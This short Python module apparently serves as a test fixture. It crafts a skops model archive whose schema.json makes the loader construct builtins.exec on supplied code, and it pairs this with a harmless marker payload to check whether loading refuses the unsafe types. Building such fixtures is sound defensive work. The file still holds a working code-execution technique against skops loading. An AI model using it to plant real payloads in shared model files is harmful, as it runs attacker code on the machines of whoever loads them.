"""Files an attacker could write: a skops archive whose schema calls ``builtins.exec`` when loaded."""

from __future__ import annotations

import io
import json
import zipfile


def skops_with_exec(payload: bytes, code: str, key: str = "target_regime_ahead") -> bytes:
    """A copy of a skops archive of a dict whose ``key`` entry is replaced by a node that skops
    constructs as ``builtins.exec(code)``: loading it runs ``code`` unless its types are refused."""
    archive = zipfile.ZipFile(io.BytesIO(payload))
    schema = json.loads(archive.read("schema.json"))
    string = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(code),
        "is_json": True,
    }
    arguments = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [string]}
    schema["content"] = {
        **schema["content"],
        key: {
            "__class__": "exec",
            "__module__": "builtins",
            "__loader__": "ConstructorFromReduceNode",
            "content": arguments,
        },
    }
    crafted = io.BytesIO()
    with zipfile.ZipFile(crafted, "w") as out:
        for name in archive.namelist():
            out.writestr(name, json.dumps(schema) if name == "schema.json" else archive.read(name))
    return crafted.getvalue()


def marker_code(marker) -> str:
    return f"open({str(marker)!r}, 'w').write('code ran on load')"
